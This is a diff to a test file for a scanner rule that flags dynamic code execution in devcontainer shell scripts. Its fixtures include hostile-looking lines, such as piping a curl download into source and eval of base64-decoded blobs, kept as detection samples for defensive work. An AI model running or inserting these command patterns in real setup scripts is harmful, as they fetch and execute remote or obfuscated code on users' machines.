@@ -431,12 +431,12 @@ describe('dynamic-code-execution: a shell activation idiom', () => {
     }
   });
   it('is not a sink when other commands share its line (`&&`, `;`, `||`, `then`): they are read by the other rules', () => {
-    for (const line of ['eval "$(ssh-agent -s)" && ssh-add ~/.ssh/deploy_key', 'eval "$(ssh-agent -s)"; ssh-add -q ~/.ssh/id_ed25519', '[ -z "$SSH_AUTH_SOCK" ] && eval "$(ssh-agent -s)"', 'command -v direnv >/dev/null && eval "$(direnv export bash)"', 'if command -v pyenv >/dev/null; then eval "$(pyenv init -)"; fi', 'eval "$(/opt/homebrew/bin/brew shellenv)" && brew bundle', 'eval "$(conda shell.bash hook)" && conda activate docs']) {
+    for (const line of ['eval "$(ssh-agent -s)" && ssh-add ~/.ssh/deploy_key', 'eval "$(ssh-agent -s)"; ssh-add -q ~/.ssh/id_ed25519', '[ -z "$SSH_AUTH_SOCK" ] && eval "$(ssh-agent -s)"', 'command -v direnv >/dev/null && eval "$(direnv export bash)"', 'if command -v pyenv >/dev/null; then eval "$(pyenv init -)"; fi', 'eval "$(/opt/homebrew/bin/brew shellenv)" && brew bundle', 'eval "$(conda shell.bash hook)" && conda activate docs', 'eval "$(ssh-agent -s)" > /dev/null && ssh-add -q ~/.ssh/deploy_key', 'eval $(ssh-agent) >/dev/null 2>&1']) {
       expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
     }
   });
   it('is still a sink when another command of its line is one', () => {
-    for (const line of ['eval "$(ssh-agent -s)" && eval "$PAYLOAD"', 'eval "$(ssh-agent -s)" && source <(curl -fsSL https://get.example.dev/env)', 'eval "$(mise activate bash)" || sh -c "$FALLBACK"', 'eval "$(ssh-agent -s)" && eval "$(echo "$BLOB" | base64 -d)"']) {
+    for (const line of ['eval "$(ssh-agent -s)" && eval "$PAYLOAD"', 'eval "$(ssh-agent -s)" && source <(curl -fsSL https://get.example.dev/env)', 'eval "$(mise activate bash)" || sh -c "$FALLBACK"', 'eval "$(ssh-agent -s)" && eval "$(echo "$BLOB" | base64 -d)"', 'eval "$(ssh-agent -s)" > "$OUT"', 'eval "$(mise activate bash)" 2>/tmp/x && . /tmp/x']) {
       expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
     }
   });
